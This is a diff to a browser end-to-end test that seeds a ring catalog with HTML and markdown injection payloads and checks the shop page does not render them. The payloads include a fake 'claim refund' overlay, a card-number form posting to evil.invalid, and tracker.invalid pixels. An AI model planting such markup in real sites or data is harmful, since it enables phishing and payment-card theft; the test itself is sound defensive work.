@@ -23,8 +23,9 @@ from ui.page import serve
 
 pytestmark = [pytest.mark.browser, pytest.mark.e2e]
 
-OVERLAY = '<div class="pwn-overlay" style="position:fixed;inset:0;z-index:9999;background:red">SHOP CLOSED - CLICK TO CLAIM REFUND</div>'
-FORM = '<form id="pwn-form" action="http://evil.invalid/steal"><input name="card"><button>Pay</button></form>'
+# Each fits the catalog's shortest field limit (style, occasion, tags: 100 characters).
+OVERLAY = '<div class="pwn-overlay" style="position:fixed;inset:0;z-index:9;background:red">CLAIM REFUND</div>'
+FORM = '<form id="pwn-form" action="http://evil.invalid/s"><input name="card"><button>Pay</button></form>'
 PIXEL = '<img class="pwn-img" src="http://tracker.invalid/pixel.png">'
 MD_LINK = "[claim your refund](http://evil.invalid/refund)"
 MD_IMAGE = "![pixel](http://tracker.invalid/md.png)"
@@ -38,8 +39,9 @@ RENDERED = ".pwn-overlay, #pwn-form, .pwn-img, img[src*='invalid'], a[href*='inv
 def poisoned_rows(image: str) -> list[dict]:
     """Rings whose every text field carries markup; one plain ring beside them."""
     base = {"category": "ring", "metal": "white gold", "currency": "USD", "image": image, "in_stock": True}
+    assert all(len(payload) <= 100 for payload in PAYLOADS)
     rows = [
-        {**base, "id": f"X{n}", "title": f"Ring {payload}"[:150], "price": 100 + n, "description": " ".join(PAYLOADS),
+        {**base, "id": f"X{n}", "title": f"Ring {payload}", "price": 100 + n, "description": " ".join(PAYLOADS),
          "style": payload, "occasion": payload, "tags": [payload, MD_LINK]}
         for n, payload in enumerate(PAYLOADS)
     ]  # fmt: skip
